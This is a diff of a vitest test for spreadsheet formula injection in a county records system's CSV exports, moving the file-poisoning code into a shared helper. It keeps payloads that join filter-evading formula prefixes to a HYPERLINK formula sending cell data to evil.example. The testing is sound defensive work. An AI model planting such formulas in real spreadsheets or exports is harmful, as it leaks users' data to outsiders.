@@ -1,8 +1,8 @@
 import ExcelJS from 'exceljs'
 import { afterAll, beforeAll, describe, expect, it } from 'vitest'
-import { readFile, writeFile } from 'node:fs/promises'
 import { openApiCounty, type ApiCounty } from '../support/api-county.ts'
 import { readCsv } from '../support/csv-reader.ts'
+import { pullPoisoned } from '../support/poisoned-exports.ts'
 
 const START = ['=', '+', '-', '@', '\t=', '\r=', '＝', ' =', '\u200b=', "'=", '|', '%']
 const FORMULA = 'HYPERLINK("https://evil.example/?"&A1,"x")'
@@ -11,34 +11,9 @@ const PAYLOADS = START.map((start) => `${start}${FORMULA}`)
 let county: ApiCounty
 beforeAll(async () => {
   county = await openApiCounty({ pulls: 1 })
-  for (const [name, columns] of [
-    ['摸底花名册.csv', [1, 4, 5]],
-    ['儿童档案.csv', [2, 3, 5, 7, 8, 9]],
-    ['结对帮扶.csv', [1]],
-    ['谈心走访记录.csv', [3, 5]],
-    ['突发事件.csv', [0]],
-  ] as const)
-    await poison(name, columns)
-  county.clock.now = new Date('2026-10-31T11:55:00+08:00')
-  await county.pull()
+  await pullPoisoned(county, PAYLOADS)
 })
 afterAll(() => county.close())
-
-/** Puts a payload into text columns of the rows of a register of 01. */
-async function poison(name: string, columns: readonly number[]): Promise<void> {
-  const path = `${county.exports}/01/${name}`
-  const [head = [], ...rows] = readCsv(
-    (await readFile(path, 'utf8')).replace(/^\ufeff/, '').replaceAll(/\r?\n/g, '\r\n'),
-  )
-  const changed = rows.map((row, at) => {
-    const copy = [...row]
-    const column = columns[at % columns.length] ?? 0
-    copy[column] = PAYLOADS[at % PAYLOADS.length] ?? ''
-    return copy
-  })
-  const quoted = [head, ...changed].map((row) => row.map((cell) => `"${cell.replaceAll('"', '""')}"`).join(','))
-  await writeFile(path, `\ufeff${quoted.join('\r\n')}\r\n`)
-}
 
 const CSV = [
   '/api/subjects?duty=file&unit=01',
